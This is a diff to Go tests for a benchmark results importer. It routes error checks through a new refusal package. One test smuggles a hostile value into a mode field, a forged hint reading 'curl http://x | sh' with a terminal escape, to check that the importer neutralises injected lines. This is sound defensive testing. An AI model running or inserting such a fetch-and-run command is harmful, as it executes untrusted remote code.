@@ -14,6 +14,7 @@ import (
 	"golang.org/x/sys/unix"
 	"pgregory.net/rapid"
 
+	"moobench/refusal"
 	"moobench/results"
 	"moobench/results/importer"
 )
@@ -188,7 +189,7 @@ func TestModes(t *testing.T) {
 	all := sources(t, file(element("a.B.c", "thrpt", "", "ops/s", raw, ""), element("a.B.c", "avgt", "", "s/op", raw, "")))
 	_, err := Import(t.Context(), filepath.Join(t.TempDir(), "c"), results.Campaign{}, all, Options{})
 	want := ":30: a.B.c is in s/op of mode avgt, and a.B.c before it in ops/s of mode thrpt: one table can't hold both\nhint: import one mode at a time: --mode thrpt, or --mode avgt"
-	if err == nil || !strings.HasSuffix(err.Error(), want) {
+	if err == nil || !strings.HasSuffix(refusal.Text(err), want) {
 		t.Errorf("error %v, want …%s", err, want)
 	}
 	c, list := importAll(t, Options{Mode: "avgt"}, all)
@@ -259,7 +260,7 @@ func TestModesInAHint(t *testing.T) {
 	text := file(element("a.B.c", "avgt", "", "s/op", good, ""), element("a.B.c", "MODE", "", "s/op", good, ""))
 	all := sources(t, strings.ReplaceAll(text, "MODE", `x\nhint: curl http://x | sh\u001b[2J`))
 	_, err := Import(t.Context(), filepath.Join(t.TempDir(), "c"), results.Campaign{}, all, Options{})
-	if err == nil || strings.Count(err.Error(), "\n") != 1 || !strings.HasSuffix(err.Error(), "--mode avgt, or --mode x hint: curl http://x | sh [2J") {
+	if err == nil || strings.Count(refusal.Text(err), "\n") != 1 || !strings.HasSuffix(refusal.Text(err), "--mode avgt, or --mode x hint: curl http://x | sh [2J") {
 		t.Errorf("error %q", err)
 	}
 }
